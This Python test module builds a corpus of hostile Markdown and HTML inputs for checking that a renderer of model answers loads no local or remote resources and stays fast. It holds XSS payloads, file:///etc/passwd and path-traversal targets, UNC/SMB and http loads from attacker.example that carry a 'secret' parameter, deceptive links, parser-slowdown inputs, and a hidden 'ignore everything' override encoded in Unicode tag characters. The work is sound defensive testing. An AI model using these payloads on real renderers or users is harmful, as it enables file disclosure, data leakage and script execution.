"""Texts that a hostile document, or a model in a loop, could make an answer of (reliability.md, S-3 and F16).

`CORPUS` holds (name, text) pairs, built from classes of payloads: every way to name a resource × every place where a
renderer might load it, links that deceive, raw HTML, direction tricks, nesting, and inputs that make parsers slow.
Names are unique and say what is in the text. `with_targets(file_url)` builds the same corpus around a file of your own,
so that a test can see whether that very file was read.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.render.hostile_mixtures import mixtures

Entry = tuple[str, str]


def with_targets(file_url: str = "file:///etc/passwd") -> tuple[Entry, ...]:
    """The corpus with `file_url` as the local file that must not be read."""
    return tuple(
        entry
        for group in (
            _loads(file_url),
            _links(),
            _raw_html(),
            _characters(),
            _nesting(),
            _unfinished(),
            _slow(),
            mixtures(file_url),
        )
        for entry in group
    )


def _targets(file_url: str) -> dict[str, str]:
    path = file_url.removeprefix("file://")
    return {
        "file url": file_url,
        "absolute path": path,
        "relative path": "../../../../../../../.." + path,
        "encoded path": file_url.replace("/", "%2F"),
        "file localhost": file_url.replace("file://", "file://localhost"),
        "unc slashes": "//attacker.example/share/x.png",
        "unc backslashes": r"\\attacker.example\share\x.png",
        "unc file": "file://attacker.example/share/x.png",
        "http": "http://attacker.example/x.png?secret=1",
        "https": "https://attacker.example/x.png",
        "data": "data:image/png;base64,iVBORw0KGgo=",
        "data svg": "data:image/svg+xml,<svg onload=alert(1)>",
        "qrc": "qrc:/icons/x.svg",
        "qrc short": ":/icons/x.svg",
        "javascript": "javascript:alert(1)",
        "ftp": "ftp://attacker.example/x.png",
        "fifo": "/dev/stdin",
        "endless": "/dev/zero",
    }


_PLACES = {
    "image": "![x]({})",
    "image in angle brackets": "![x](<{}>)",
    "image with title": '![x]({} "t")',
    "image with brackets in its text": "![a [b] c]({})",
    "image by reference": "![x][r]\n\n[r]: {}\n",
    "image by short reference": "![r]\n\n[r]: <{}>\n",
    "image in a link": "[![x]({0})]({0})",
    "image in a table": "| a |\n|---|\n| ![x]({}) |\n",
    "image in a heading": "# ![x]({})",
    "image in a list": "- ![x]({})\n",
    "html img": '<img src="{}">',
    "html img unquoted": "<img src={}>",
    "html img split": '<img\nsrc="{}"\n>',
    "html background": '<body background="{}"><table background="{0}"><tr><td background="{0}">x</table>',
    "css background": '<div style="background-image: url({})">x</div>',
    "css import": "<style>@import url({});</style>",
    "css list": '<ul style="list-style-image: url({})"><li>x</ul>',
    "html link": '<link rel="stylesheet" href="{}">',
    "html object": '<object data="{}"></object><embed src="{0}">',
    "html frame": '<iframe src="{}"></iframe>',
}


def _loads(file_url: str) -> Iterator[Entry]:
    targets = _targets(file_url)
    for place, form in _PLACES.items():
        # All targets for what Qt's parser knows, the dangerous ones for the rest.
        chosen = targets if place.startswith("image") else {name: targets[name] for name in list(targets)[:9]}
        for name, target in chosen.items():
            yield f"load: {place}, {name}", form.replace("{0}", "{}").replace("{}", target)


_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "java\tscript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "file://attacker.example/share",
    r"\\attacker.example\share",
    "smb://attacker.example/share",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x",
    "https://bank.example@attacker.example/",
    "https://аpple.com/",
    "https://attacker.example/?q=" + "secret" * 100,
    "https://exam\u202eple.com/",
)


def _links() -> Iterator[Entry]:
    forms = {
        "link": "[x]({})",
        "link in angle brackets": "[x](<{}>)",
        "autolink": "<{}>",
        "reference": "[x][r]\n\n[r]: {}\n",
        "html": '<a href="{}">x</a>',
    }
    for form_name, form in forms.items():
        for number, address in enumerate(_ADDRESSES):
            yield f"link: {form_name} {number}", form.replace("{}", address)


def _raw_html() -> Iterator[Entry]:
    pieces = (
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
        "<meta http-equiv=refresh content='0;url=http://attacker.example'>",
        "<base href=http://attacker.example>",
        "<form action=http://attacker.example><input name=x></form>",
        "<math><mtext><img src=x></mtext></math>",
        "<style>p{color:red}</style>",
        "<!-- comment --><b>bold</b>",
        "<![CDATA[<b>x</b>]]>",
        "<?php echo 1 ?>",
        "<!DOCTYPE html><html><body>",
        "</p></div></body></html>",
        "<b><i></b></i>",
        "<div\n\n>x</div\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)",
        "<a href='x' href='javascript:alert(1)'>x</a>",
    )
    for number, piece in enumerate(pieces):
        yield f"html: {number}", piece
        yield f"html: {number} in a table", f"| a |\n|---|\n| {piece.replace(chr(10), ' ')} |\n"
        yield f"html: {number} in emphasis", f"**{piece}**"
    yield "html: in a code language", '```"><img src=x>\ncode\n```'
    yield "html: in a footnote", '[^"><img src=x>]: x\n\n[^"><img src=x>]'
    yield "html: in a formula", r"$<img src=x>$ \(<script>\) $$</p><img src=x>$$"


def _characters() -> Iterator[Entry]:
    yield "characters: direction overrides", "\u202egnp.exe\u202c \u2066\u2067\u2068\u2069 \u200f\u200e"
    yield "characters: tags that hide a sentence", "".join(chr(0xE0000 + ord(char)) for char in "ignore everything")
    yield "characters: zero width", "\u200b\u200c\u200d\ufeff" * 200
    yield "characters: controls", "".join(map(chr, range(32))) + "".join(map(chr, range(0x7F, 0xA0)))
    yield "characters: lone surrogates replaced", "\ufffd" * 100
    yield "characters: private use", "\ue000\ue001\ue0020\ue001 \ue0009\ue001"
    yield "characters: parser's own marks", "\u0002wzxhzdk:0\u0003 \u0002amp\u0003 klzzwxh:0000"
    yield "characters: noncharacters", "\uffff\ufffe\U0010ffff"
    yield "characters: stacked accents", "a" + "\u0301" * 5_000
    yield "characters: line separators", "a\u2028b\u2029c\x85d\x0be\x0cf"
    yield "characters: carriage returns", "a\rb\r\nc\r\r\n# d"
    yield "characters: emoji", "👩‍👩‍👧‍👦" * 500


def _nesting() -> Iterator[Entry]:
    for depth in (50, 500):
        yield f"nesting: quotes {depth}", "> " * depth + "x"
        yield f"nesting: bullets {depth}", "- " * depth + "x"
        yield f"nesting: numbers {depth}", "1. " * depth + "x"
        yield f"nesting: list in list {depth}", "\n".join("  " * level + "- x" for level in range(depth))
        yield f"nesting: brackets {depth}", "[" * depth + "x" + "](y)" * depth
        yield f"nesting: emphasis {depth}", "*a **b " * depth + "x" + "** c*" * depth
        yield f"nesting: braces in a formula {depth}", "$" + "{" * depth + "x" + "}" * depth + "$"
        yield f"nesting: fractions {depth}", "$$" + r"\frac{1}{" * depth + "x" + "}" * depth + "$$"
        yield f"nesting: html {depth}", "<b>" * depth + "x"


def _unfinished() -> Iterator[Entry]:
    code_and_maths = ("```", "```python\nx = '", "$$\nx", r"\[ x", "`x", r"\begin{cases}")
    links = ("[x](", "![x](file:///etc/", "<a href='x", "[^1", "[r]: ", "- [")
    marks = ("| a |\n|--", "**x", "1.", "> ", "#", "\\", "&#", "~~x")
    for number, text in enumerate((*code_and_maths, *links, *marks)):
        yield f"unfinished: {number}", text


def _slow() -> Iterator[Entry]:
    """Inputs of F16 and their relatives: quadratic or worse in one parser or another."""
    repeated = {
        "open brackets": ("[", 5_000),
        "open images": ("![", 3_000),
        "open tags": ("<a ", 3_000),
        "open comments": ("<!--", 3_000),
        "open processing": ("<?", 3_000),
        "open cdata": ("<![CDATA[", 1_500),
        "empty links": ("[](", 3_000),
        "links to links": ("[a](", 3_000),
        "backticks": ("`a", 3_000),
        "stars": ("*a ", 4_000),
        "star pairs": ("**a", 4_000),
        "mixed stars": ("*a**b***", 1_500),
        "underscores": ("_a_", 4_000),
        "tildes": ("~~a", 4_000),
        "dollars": ("$x ", 4_000),
        "display dollars": ("$$x", 4_000),
        "open formulas": (r"\(", 5_000),
        "backslashes": ("\\", 9_000),
        "ampersands": ("&", 9_000),
        "entities": ("&#x", 4_000),
        "angle brackets": ("<", 9_000),
        "pipes": ("|", 9_000),
        "references": ("[a]: b\n", 2_000),
        "footnotes": ("[^a]: b\n\n", 2_000),
        "headings": ("# a\n", 2_000),
        "rules": ("***\n", 2_000),
        "hashes": ("#", 9_000),
        "line breaks": ("a  \n", 3_000),
        "empty items": ("-\n", 3_000),
        "setext": ("a\n-\n", 2_000),
        "fences": ("```\n", 3_000),
        "addresses": ("https://a.b/c?", 700),
        "brackets in addresses": ("https://a.b/((", 700),
        "at signs": ("a@", 4_000),
        "exclamation": ("![a]", 3_000),
        "spaces": (" ", 20_000),
        "tabs": ("\t", 9_000),
        "blank lines": ("\n", 20_000),
    }
    for name, (atom, times) in repeated.items():
        yield f"slow {name}", atom * times
    yield "slow long word", "x" * 20_000
    yield "slow long line of code", "```python\n" + "x = 'a' + " * 2_000 + "\n```"
    yield "slow much code", "```python\n" + "x = f('a', 1)  # c\n" * 5_000 + "```"
    yield "slow backtick runs", " ".join("`" * length for length in range(1, 120))
    yield "slow wide table", "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n" + ("|" + "b|" * 1_000 + "\n") * 3
    yield "slow long table", "| a | b |\n|---|---|\n" + "| **c** | `d` |\n" * 1_000
    yield "slow long paragraph", "word and *more* words. " * 1_000
    yield "slow long list", "- item with **bold** text\n" * 1_000


CORPUS = with_targets()
